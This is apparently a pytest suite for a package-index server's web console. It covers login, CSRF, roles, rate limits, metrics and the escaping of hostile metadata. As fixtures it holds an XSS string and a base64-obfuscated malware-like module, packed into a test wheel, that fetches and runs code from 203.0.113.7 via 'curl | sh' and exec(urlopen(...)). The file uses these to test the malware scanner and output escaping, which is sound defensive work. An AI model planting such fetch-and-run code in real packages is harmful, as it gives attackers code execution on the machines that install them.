"""The web console (/ui/), health, readiness and metrics, against a real server on SQLite and
PostgreSQL.

Browser tests drive the system's headless Chromium (``/usr/bin/chromium``) with Playwright;
no browser is ever downloaded. Screenshots go to ``test-artifacts/console/`` (gitignored;
``STOCKADE_TEST_ARTIFACTS`` moves it).
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import json
import os
import re
import subprocess
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import httpx
import pytest

from tests.builders import build_wheel
from tests.conftest import ROOT, STOCKADE, Server, UpstreamSet

CHROMIUM = os.environ.get("STOCKADE_TEST_CHROMIUM", "/usr/bin/chromium")
ARTIFACTS = Path(os.environ.get("STOCKADE_TEST_ARTIFACTS", ROOT / "test-artifacts")) / "console"
ADMIN_PW = "correct horse battery staple"
VIEWER_PW = "viewer passphrase 12345"

XSS = '<script>alert("xss")</script>"><img src=x onerror=alert(1)>'
PAYLOAD = (  # harmless: the test only uploads it; nothing is installed or run
    "import urllib.request as u, os\n"
    f"exec(u.urlopen('http://203.0.113.7/s?{XSS}').read())\n"
    "os.system('curl -s http://203.0.113.7/x | sh')\n"
)
EVIL_INIT = (
    f"import base64, os\nexec(base64.b64decode({base64.b64encode(PAYLOAD.encode()).decode()!r}))\n"
    f"os.system('curl -s http://203.0.113.7/y | sh')  # {XSS}\n"
)
POLICY = (
    '[[rules]]\nkind = "vulnerabilities"\nseverity = "high"\n\n'
    '[[rules]]\nkind = "threats"\nblock = ["malicious"]\n'
)
ADVISORY = {
    "id": "TEST-A",
    "modified": "2024-01-01T00:00:00Z",
    "aliases": ["CVE-2024-9999"],
    "summary": "alpha evaluates templates it should not",
    "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"}],
    "affected": [
        {
            "package": {"ecosystem": "PyPI", "name": "alpha"},
            "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "1.1"}, {"fixed": "1.2"}]}],
        }
    ],
}


def add_user(srv: Server, name: str, role: str, password: str) -> None:
    res = subprocess.run(
        [STOCKADE, "console", "user", "add", name, "--role", role],
        input=password + "\n",
        env=srv.env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert res.returncode == 0, res.stderr


def upload(srv: Server, token: str, wheel: Path) -> None:
    with srv.http(token) as c:
        r = c.post(
            "/pypi/internal/",
            data={":action": "file_upload"},
            files={"content": (wheel.name, wheel.read_bytes())},
        )
        assert r.status_code == 200, r.text


def csrf_of(html: str) -> str:
    m = re.search(r'name="csrf" value="([^"]+)"', html)
    assert m, html[:500]
    return m.group(1)


def login(srv: Server, user: str, password: str, **headers: str) -> httpx.Client:
    c = httpx.Client(base_url=srv.url, timeout=30, headers=headers)
    page = c.get("/ui/login")
    r = c.post(
        "/ui/login",
        data={"csrf": csrf_of(page.text), "username": user, "password": password, "next": "/ui/"},
    )
    assert r.status_code == 303, r.text
    return c


@dataclass
class Scene:
    srv: Server
    read_token: str
    evil_sha: str


@pytest.fixture
def scene(server: Server, tmp_path: Path) -> Scene:
    """A private index with a policy, an advisory, a malicious-looking upload and accounts."""
    srv = server
    srv.cli("index", "create", "internal", "--private")
    feed = tmp_path / "console-feed"
    feed.mkdir()
    (feed / "TEST-A.json").write_text(json.dumps(ADVISORY))
    srv.cli("vulndb", "import", str(feed))
    (tmp_path / "policy.toml").write_text(POLICY)
    srv.cli("policy", "set", "internal", "--file", str(tmp_path / "policy.toml"))
    dist = tmp_path / "console-dist"
    dist.mkdir()
    writer = srv.token("internal", "write")
    upload(srv, writer, build_wheel(dist, "alpha", "1.0"))
    upload(
        srv,
        writer,
        build_wheel(
            dist,
            "alpha",
            "1.1",
            summary=XSS,
            description=f"Read me {XSS}\n\n<b>bold?</b>",
            headers=[f"Author: {XSS}", "Home-page: javascript:alert(1)"],
        ),
    )
    evil = build_wheel(
        dist, "friendly-colors", "1.0", modules={"friendly_colors/__init__.py": EVIL_INIT}
    )
    upload(srv, writer, evil)
    import hashlib

    evil_sha = hashlib.sha256(evil.read_bytes()).hexdigest()
    reader = srv.token("internal", "read", "--note", "ci reader")
    srv.token("internal", "read", "--note", XSS)  # a hostile note, shown on the tokens page
    deadline = time.monotonic() + 60
    with srv.http(reader) as c:
        while c.get(f"/api/v1/scans/{evil_sha}").status_code != 200:
            assert time.monotonic() < deadline, "the upload was never scanned"
            time.sleep(0.2)
    add_user(srv, "alice", "admin", ADMIN_PW)
    add_user(srv, "victor", "viewer", VIEWER_PW)
    return Scene(srv, reader, evil_sha)


# -- HTTP-level security checks ----------------------------------------------------------------


def test_login_sessions_csrf_and_roles(scene: Scene) -> None:
    srv = scene.srv
    token_id = scene.read_token.split("_")[1]
    with httpx.Client(base_url=srv.url, timeout=30) as anon:
        r = anon.get("/ui/tokens")
        assert r.status_code == 303 and r.headers["location"].startswith("/ui/login?next=")
        assert anon.get("/ui").status_code == 308
        # the login form has its own CSRF token: without it the login is refused
        form = anon.get("/ui/login")
        assert "content-security-policy" in form.headers
        r = anon.post("/ui/login", data={"username": "alice", "password": ADMIN_PW})
        assert r.status_code == 403 and "stockade_console=" not in r.headers.get("set-cookie", "")
        # wrong password: refused, no session
        r = anon.post(
            "/ui/login",
            data={
                "csrf": csrf_of(anon.get("/ui/login").text),
                "username": "alice",
                "password": "x",
            },
        )
        assert r.status_code == 401 and "wrong user name or password" in r.text
        assert "stockade_console=" not in r.headers.get("set-cookie", "")

    admin = login(srv, "alice", ADMIN_PW)
    cookie = admin.cookies.jar
    set_cookie = next(c for c in cookie if c.name == "stockade_console")
    assert set_cookie.path == "/ui" and not set_cookie.secure
    assert set_cookie.has_nonstandard_attr("HttpOnly")
    page = admin.get("/ui/tokens")
    assert page.status_code == 200 and token_id in page.text
    csrf = csrf_of(page.text)
    # POSTs without the CSRF token, or with another one, change nothing
    r = admin.post(f"/ui/tokens/{token_id}/revoke")
    assert r.status_code == 403 and "CSRF" in r.text
    r = admin.post(f"/ui/tokens/{token_id}/revoke", data={"csrf": "forged"})
    assert r.status_code == 403
    r = admin.post("/ui/vulns/TEST-A/curate", data={"package": "PyPI|alpha", "status": "fixed"})
    assert r.status_code == 403
    with srv.http(scene.read_token) as c:
        assert c.get("/pypi/internal/simple/alpha/").status_code == 200  # still valid
    assert json.loads(srv.cli("vuln", "show", "TEST-A", "--json").stdout)["curation_history"] == []

    # a viewer reads everything and changes nothing
    viewer = login(srv, "victor", VIEWER_PW)
    for path in ("/ui/", "/ui/indexes/internal", "/ui/vulns/TEST-A", "/ui/tokens", "/ui/audit"):
        assert viewer.get(path).status_code == 200, path
    vpage = viewer.get("/ui/tokens").text
    assert "Revoke" not in vpage
    r = viewer.post(f"/ui/tokens/{token_id}/revoke", data={"csrf": csrf_of(vpage)})
    assert r.status_code == 403 and "viewer" in r.text
    r = viewer.post(
        "/ui/vulns/TEST-A/curate",
        data={"csrf": csrf_of(vpage), "package": "PyPI|alpha", "status": "fixed"},
    )
    assert r.status_code == 403
    with srv.http(scene.read_token) as c:
        assert c.get("/pypi/internal/simple/alpha/").status_code == 200

    # an admin's CSRF-carrying POST works (and is audited with the console user as actor)
    r = admin.post(f"/ui/tokens/{token_id}/revoke", data={"csrf": csrf})
    assert r.status_code == 303
    with srv.http(scene.read_token) as c:
        assert c.get("/pypi/internal/simple/alpha/").status_code == 401
    events = json.loads(srv.cli("audit", "list", "--json", "--action", "token.revoke").stdout)
    assert events[0]["actor"] == "console:alice"
    logins = json.loads(srv.cli("audit", "list", "--json", "--action", "console.login").stdout)
    assert {e["outcome"] for e in logins} == {"ok", "refused"}

    # logout ends the session on the server: the old cookie no longer works
    old = admin.cookies.get("stockade_console")
    assert admin.post("/ui/logout", data={"csrf": csrf}).status_code == 303
    with httpx.Client(base_url=srv.url, timeout=30, cookies={"stockade_console": old}) as c:
        assert c.get("/ui/").status_code == 303
    assert json.loads(srv.cli("audit", "list", "--json", "--action", "console.logout").stdout)

    # an expired session is refused
    _expire_sessions(srv)
    assert viewer.get("/ui/").status_code == 303

    # a disabled account's sessions end at once
    viewer = login(srv, "victor", VIEWER_PW)
    srv.cli("console", "user", "disable", "victor")
    assert viewer.get("/ui/").status_code == 303
    listed = json.loads(srv.cli("console", "user", "list", "--json").stdout)
    assert {u["username"]: u["disabled"] for u in listed} == {"alice": False, "victor": True}


def _expire_sessions(srv: Server) -> None:
    from sqlalchemy import update

    from stockade.db.models import ConsoleSessionRow
    from stockade.services.repo import utcnow
    from stockade.services.runtime import Runtime
    from stockade.settings import Settings

    async def go() -> None:
        rt = Runtime(Settings.load(home=srv.home, database_url=srv.db_url))
        try:
            async with rt.sessions() as s, s.begin():
                await s.execute(update(ConsoleSessionRow).values(expires_at=utcnow()))
        finally:
            await rt.close()

    asyncio.run(go())


def test_login_failures_are_rate_limited_and_cookies_secure_over_https(scene: Scene) -> None:
    srv = scene.srv
    with httpx.Client(base_url=srv.url, timeout=30) as c:
        for _ in range(5):
            r = c.post(
                "/ui/login",
                data={
                    "csrf": csrf_of(c.get("/ui/login").text),
                    "username": "alice",
                    "password": "wrong",
                },
            )
            assert r.status_code == 401
        r = c.post(
            "/ui/login",
            data={
                "csrf": csrf_of(c.get("/ui/login").text),
                "username": "alice",
                "password": ADMIN_PW,
            },
        )
        assert r.status_code == 429 and "too many failed logins" in r.text
    # behind a TLS-terminating proxy (uvicorn trusts X-Forwarded-Proto from 127.0.0.1) every
    # cookie is Secure (so the client here must send it by hand: this hop is plain http)
    with httpx.Client(base_url=srv.url, timeout=30, headers={"X-Forwarded-Proto": "https"}) as c:
        form = c.get("/ui/login")
        assert "; secure" in form.headers["set-cookie"].lower()
        token = csrf_of(form.text)
        r = c.post(
            "/ui/login",
            data={"csrf": token, "username": "victor", "password": VIEWER_PW},
            headers={"Cookie": f"stockade_console_login={token}"},
        )
        assert r.status_code == 303, r.text
        session = next(
            v for v in r.headers.get_list("set-cookie") if v.startswith("stockade_console=")
        )
        flags = {f.strip().lower() for f in session.split(";")[1:]}
        assert {"httponly", "secure", "samesite=strict", "path=/ui"} <= flags


# -- health, readiness, metrics ----------------------------------------------------------------


def test_health_readiness_and_metrics(scene: Scene, upstream: UpstreamSet) -> None:
    srv = scene.srv
    with httpx.Client(base_url=srv.url, timeout=30) as c:
        assert c.get("/-/healthz").json()["status"] == "ok"
        ready = c.get("/-/readyz")
        assert ready.status_code == 200, ready.text
        checks = ready.json()["checks"]
        assert all(v["ok"] for v in checks.values())
        assert checks["migrations"]["current"] == checks["migrations"]["head"]
    srv.cli("index", "create", "up", "--mirror", upstream.upstream.simple_url)
    admin = srv.token("*", "admin")
    with srv.http(admin) as c:
        for _ in range(3):  # the first builds the page, the next ones take the fast path
            assert c.get("/pypi/internal/simple/alpha/").status_code == 200
        r = c.get("/pypi/internal/files/alpha/alpha-1.1-py3-none-any.whl")
        assert r.status_code == 403
        assert c.get("/pypi/up/simple/beta/").status_code == 200  # an upstream request
        r = c.get("/-/metrics")
    assert r.headers["content-type"].startswith("text/plain")
    samples = parse_metrics(r.text)
    # alpha three times (one slow, two fast path) and beta once (slow)
    assert samples[("stockade_http_requests_total", "simple_project", "GET", "200")] == 4
    assert samples[("stockade_http_requests_total", "download", "GET", "403")] == 1
    assert samples[("stockade_page_cache_total", "hit")] == 2
    assert samples[("stockade_page_cache_total", "miss")] >= 1
    assert samples[("stockade_policy_blocks_total", "vulnerabilities")] == 1
    assert samples[("stockade_upstream_request_seconds_count", "127.0.0.1")] >= 1
    assert ("stockade_jobs", "audit_events") in samples


def parse_metrics(text: str) -> dict[tuple[str, ...], float]:
    from prometheus_client.parser import text_string_to_metric_families

    order = ("route", "method", "status", "result", "rule", "host", "queue")
    out = {}
    for family in text_string_to_metric_families(text):
        for s in family.samples:
            key = (s.name, *(s.labels[k] for k in order if k in s.labels))
            out[key] = s.value
    return out


def test_readiness_reports_a_schema_behind(tmp_path: Path) -> None:
    from stockade.db.engine import upgrade
    from stockade.services.health import readiness
    from stockade.services.runtime import Runtime
    from stockade.settings import Settings

    url = f"sqlite:///{tmp_path / 'old.db'}"
    upgrade(url, "0013")

    async def go() -> tuple[bool, dict[str, object]]:
        rt = Runtime(Settings.load(home=tmp_path, database_url=url))
        try:
            return await readiness(rt)
        finally:
            await rt.close()

    ok, checks = asyncio.run(go())
    assert not ok
    migrations = checks["migrations"]
    assert isinstance(migrations, dict)
    assert migrations["ok"] is False and migrations["current"] == ("0013",)
    assert migrations["head"] != ("0013",)  # the newest revision, whatever its number
    assert migrations["hint"] == "run `stockade db upgrade`"
    assert checks["database"] == {"ok": True} and checks["storage"] == {"ok": True}


# -- in a real browser -------------------------------------------------------------------------


@pytest.fixture
def browser_page() -> Iterator[object]:
    if not Path(CHROMIUM).exists():
        # a prerequisite of the suite (README), like PostgreSQL: missing, the test fails
        pytest.fail(f"no Chromium at {CHROMIUM} (apt-get install chromium)")
    from playwright.sync_api import sync_playwright

    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        context = browser.new_context(viewport={"width": 1366, "height": 800})
        page = context.new_page()
        page.set_default_timeout(20_000)
        try:
            yield page
        finally:
            context.close()
            browser.close()


def _shot(page: object, name: str, db: str) -> None:
    from playwright.sync_api import Page

    assert isinstance(page, Page)
    page.screenshot(path=str(ARTIFACTS / f"{db}-{name}.png"), full_page=True)


def _browser_login(page: object, srv: Server, user: str, password: str) -> None:
    from playwright.sync_api import Page

    assert isinstance(page, Page)
    page.goto(f"{srv.url}/ui/")
    page.fill("input[name=username]", user)
    page.fill("input[name=password]", password)
    page.click("button[type=submit]")
    page.wait_for_selector("#console-user")


def test_browser_admin_flow(scene: Scene, browser_page: object, db_url: str) -> None:
    from playwright.sync_api import Page, expect

    page = browser_page
    assert isinstance(page, Page)
    srv = scene.srv
    db = "pg" if db_url.startswith("postgresql") else "sqlite"
    dialogs: list[str] = []

    def on_dialog(dialog: object) -> None:
        from playwright.sync_api import Dialog

        assert isinstance(dialog, Dialog)
        dialogs.append(dialog.message)
        if dialog.message.startswith("Revoke token"):
            dialog.accept()  # the revoke button asks first
        else:
            dialog.dismiss()

    page.on("dialog", on_dialog)

    # a wrong password is refused in the browser too
    page.goto(f"{srv.url}/ui/")
    page.fill("input[name=username]", "alice")
    page.fill("input[name=password]", "not the password")
    page.click("button[type=submit]")
    expect(page.locator("p.error")).to_contain_text("wrong user name or password")
    _shot(page, "login-refused", db)

    _browser_login(page, srv, "alice", ADMIN_PW)
    expect(page.locator("table.grid").first).to_contain_text("internal")
    _shot(page, "indexes", db)

    # find the blocked version and read its reason
    page.click("text=internal")
    page.click("text=alpha")
    row = page.locator('tr[data-file="alpha-1.1-py3-none-any.whl"]')
    expect(row.locator(".verdict")).to_have_text("blocked")
    expect(row.locator(".reason")).to_contain_text(
        "rule 1 (vulnerabilities): TEST-A (critical, CVSS 9.8) ≥ high; fixed in 1.2"
    )
    expect(page.locator('tr[data-file="alpha-1.0-py3-none-any.whl"] .verdict')).to_have_text(
        "allowed"
    )
    _shot(page, "project-blocked", db)

    # curate the vulnerability; the verdict changes
    page.goto(f"{srv.url}/ui/vulns/TEST-A")
    page.select_option("select[name=status]", "not_affected")
    page.select_option("select[name=justification]", "vulnerable_code_not_present")
    page.fill("textarea[name=note]", f"reviewed {XSS}")
    page.click("#curate-form button[type=submit]")
    expect(page.locator("#curations")).to_contain_text("not_affected")
    expect(page.locator("#curations td.note").first).to_have_text(f"reviewed {XSS}")
    assert page.locator("img").count() == 0
    _shot(page, "curated", db)
    page.goto(f"{srv.url}/ui/indexes/internal/projects/alpha")
    expect(page.locator('tr[data-file="alpha-1.1-py3-none-any.whl"] .verdict')).to_have_text(
        "allowed"
    )
    _shot(page, "project-allowed", db)
    assert dialogs == []

    # revoke a token (the page asks for confirmation)
    token_id = scene.read_token.split("_")[1]
    page.goto(f"{srv.url}/ui/tokens")
    page.click(f'tr[data-token="{token_id}"] button:has-text("Revoke")')
    expect(page.locator("p.ok")).to_contain_text(token_id)
    assert len(dialogs) == 1 and token_id in dialogs[0]  # the confirmation, nothing else
    page.goto(f"{srv.url}/ui/tokens?show=all")
    expect(page.locator(f'tr[data-token="{token_id}"] .badge')).to_have_text("revoked")
    _shot(page, "token-revoked", db)
    with srv.http(scene.read_token) as c:
        assert c.get("/pypi/internal/simple/alpha/").status_code == 401

    # the audit log shows the console user's changes; the chain verifies
    page.goto(f"{srv.url}/ui/audit?actor=console:alice")
    expect(page.locator("#events")).to_contain_text("vuln.curate")
    expect(page.locator("#events")).to_contain_text("token.revoke")
    page.click("#verify-chain")
    expect(page.locator("#chain-status")).to_contain_text("No break")
    _shot(page, "audit", db)

    page.goto(f"{srv.url}/ui/reports")
    with page.expect_download() as got:
        page.click('#sbom-links a[href="/ui/reports/sbom/internal?format=cyclonedx"]')
    sbom = json.loads(Path(got.value.path()).read_text())
    assert sbom["bomFormat"] == "CycloneDX"
    assert any(c.get("name") == "alpha" for c in sbom["components"])
    page.click("#ssdf-form button[type=submit]")
    expect(page.locator("body")).to_contain_text("PS.3.1")
    _shot(page, "ssdf", db)
    page.go_back()

    # sign out: the console asks for a login again
    page.click("text=Sign out")
    page.wait_for_url(re.compile(r".*/ui/login.*"))
    page.goto(f"{srv.url}/ui/tokens")
    expect(page.locator("input[name=username]")).to_be_visible()


def test_browser_escapes_hostile_metadata(scene: Scene, browser_page: object, db_url: str) -> None:
    from playwright.sync_api import Page, expect

    page = browser_page
    assert isinstance(page, Page)
    srv = scene.srv
    db = "pg" if db_url.startswith("postgresql") else "sqlite"
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    _browser_login(page, srv, "victor", VIEWER_PW)

    # package metadata: Summary, Author, description
    page.goto(f"{srv.url}/ui/indexes/internal/projects/alpha?version=1.1")
    expect(page.locator("dd.meta-summary")).to_have_text(XSS)
    expect(page.locator("dd.meta-author")).to_have_text(XSS)
    expect(page.locator("dd.meta-home-page")).to_have_text("javascript:alert(1)")
    assert page.locator("#metadata a").count() == 0  # URLs from metadata are never links
    page.click("text=Description")
    expect(page.locator("#description")).to_contain_text(f"Read me {XSS}")
    expect(page.locator("#description")).to_contain_text("<b>bold?</b>")
    _shot(page, "xss-metadata", db)

    # threat evidence: the snippet is shown as text
    page.goto(f"{srv.url}/ui/threats")
    expect(page.locator("table.grid")).to_contain_text("friendly_colors-1.0-py3-none-any.whl")
    page.goto(f"{srv.url}/ui/threats/{scene.evil_sha}")
    expect(page.locator(".finding").first).to_be_visible()
    snippets = page.locator("pre.snippet").all_text_contents()
    assert any("<script>" in s for s in snippets), snippets
    assert any(
        re.search(r"__init__\.py:\d+", w) for w in page.locator(".where").all_text_contents()
    )
    _shot(page, "threat-evidence", db)

    # a token note and the audit log's details are text too
    page.goto(f"{srv.url}/ui/tokens")
    expect(page.locator("#tokens")).to_contain_text(XSS)
    page.goto(f"{srv.url}/ui/audit?action=token.create")
    expect(page.locator("#events")).to_contain_text("token.create")

    # the viewer sees no curation form; the project page still works for a blocked file
    page.goto(f"{srv.url}/ui/vulns/TEST-A")
    assert page.locator("#curate-form").count() == 0
    page.goto(f"{srv.url}/ui/indexes/internal/projects/friendly-colors")
    expect(page.locator(".verdict").first).to_have_text("blocked")
    expect(page.locator(".reason").first).to_contain_text("(threats)")

    assert dialogs == []
    assert page.locator("img").count() == 0


def test_project_page_with_thousands_of_files_is_paginated_and_fast(
    server: Server, tmp_path: Path
) -> None:
    from tests.builders import write_simple_tree
    from tests.upstream import Upstream

    srv = server
    dist = tmp_path / "big-dist"
    dist.mkdir()
    files = []
    for v in range(1000):  # 1000 versions x 3 files; the bytes are never fetched
        for tag in ("py3-none-any", "cp311-cp311-manylinux_2_17_x86_64", "cp311-cp311-win_amd64"):
            f = dist / f"big-1.{v}-{tag}.whl"
            f.write_bytes(b"not a real wheel")
            files.append(f)
    root = tmp_path / "big-upstream"
    write_simple_tree(root, files, requires_python={f.name: "" for f in files})
    with Upstream(root) as up:
        srv.cli("index", "create", "up", "--mirror", up.simple_url)
        (tmp_path / "deny.toml").write_text('[[rules]]\nkind = "names"\ndeny = ["big<1.500"]\n')
        srv.cli("policy", "set", "up", "--file", str(tmp_path / "deny.toml"))
        add_user(srv, "alice", "admin", ADMIN_PW)
        with contextlib.closing(login(srv, "alice", ADMIN_PW)) as c:
            assert c.get("/ui/indexes/up/projects/big").status_code == 200  # fetches upstream
            start = time.perf_counter()
            r = c.get("/ui/indexes/up/projects/big")
            elapsed = time.perf_counter() - start
            assert r.status_code == 200
            assert r.text.count('<tbody class="version"') == 25
            assert "versions page 1 of 40" in r.text
            assert "3000 files" in r.text and "1500 blocked" in r.text
            assert elapsed < 3.0, f"{elapsed:.2f}s for a 3000-file project page"
            last = c.get("/ui/indexes/up/projects/big?blocked=1&page=20")
            assert 'data-version="1.0"' in last.text
            assert "big 1.0 matches deny pattern" in last.text
            assert "Big-1.0" not in last.text


def test_alerts_page_shows_environments_and_the_alert_feed(scene: Scene, tmp_path: Path) -> None:
    """/ui/alerts: every environment's status (red first, with the problem and the fix) and the
    feed: an environment turning red, the malware finding on the upload; viewers see it too."""
    srv = scene.srv
    srv.cli("team", "create", "ops")
    app = tmp_path / "app.txt"
    app.write_text("alpha==1.0\n")
    srv.cli("env", "push", "ops/app", str(app))
    tools = tmp_path / "tools.txt"
    tools.write_text("friendly-colors==1.0\n")
    srv.cli("env", "push", "ops/tools", str(tools))  # red at once: the scanner's verdict
    feed = tmp_path / "alerts-feed"
    feed.mkdir()
    advisory = dict(ADVISORY, id="TEST-B", aliases=[], summary="alpha 1.0 leaks")
    advisory["affected"] = [
        {
            "package": {"ecosystem": "PyPI", "name": "alpha"},
            "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "1.1"}]}],
        }
    ]
    (feed / "TEST-B.json").write_text(json.dumps(advisory))
    srv.cli("vulndb", "import", str(feed))
    deadline = time.monotonic() + 30
    viewer = login(srv, "victor", VIEWER_PW)
    try:
        while True:
            page = viewer.get("/ui/alerts")
            assert page.status_code == 200
            if "env.status" in page.text or time.monotonic() > deadline:
                break
            time.sleep(0.5)
    finally:
        viewer.close()
    html = page.text
    assert 'href="/ui/alerts"' in html  # in the navigation
    envs = html.split('id="environments"', 1)[1].split("</table>", 1)[0]
    assert envs.index("ops/app@1") < envs.index("ops/tools@1") or "env-red" in envs
    assert envs.count("env-red") == 2, envs
    assert "TEST-B" in envs and "fixed in 1.1" in envs
    assert "malware scanner" in envs
    alerts = html.split('id="alerts"', 1)[1].split("</table>", 1)[0]
    assert "env.status" in alerts and "ops/app" in alerts
    assert "threat.finding" in alerts and "friendly_colors-1.0-py3-none-any.whl" in alerts
    assert "<script>alert" not in html  # the payload's text is escaped wherever it shows


def test_conda_channel_page_shows_each_package_verdict(server: Server, tmp_path: Path) -> None:
    """A conda channel's console page gives each stored package the policy's verdict and
    reason, as repodata filtering decides it; a yanked package is marked."""
    from tests.conda_builders import build_conda

    srv = server
    dist = tmp_path / "cdist"
    old, new = build_conda(dist, "lib", "1.0"), build_conda(dist, "lib", "2.0")
    srv.cli("conda", "channel", "create", "internal-conda", "--private")
    srv.cli("conda", "upload", "-c", "internal-conda", str(old), str(new))
    policy = tmp_path / "conda-policy.toml"
    policy.write_text('[[rules]]\nkind = "names"\ndeny = ["lib<2"]\n')
    srv.cli("policy", "set", "internal-conda", "--file", str(policy))
    add_user(srv, "victor", "viewer", VIEWER_PW)
    viewer = login(srv, "victor", VIEWER_PW)
    try:
        page = viewer.get("/ui/indexes/internal-conda")
    finally:
        viewer.close()
    assert page.status_code == 200
    rows = {
        m.group(1): m.group(0)
        for m in re.finditer(
            r"<tr[^>]*>\s*<td>noarch</td><td><code>([^<]+)</code>.*?</tr>", page.text, re.S
        )
    }
    assert set(rows) == {"lib-1.0-0.conda", "lib-2.0-0.conda"}, page.text[-3000:]
    assert "blocked" in rows["lib-1.0-0.conda"] and "lib&lt;2" in rows["lib-1.0-0.conda"]
    assert 'class="row-blocked"' in rows["lib-1.0-0.conda"]
    assert "allowed" in rows["lib-2.0-0.conda"] and "blocked" not in rows["lib-2.0-0.conda"]
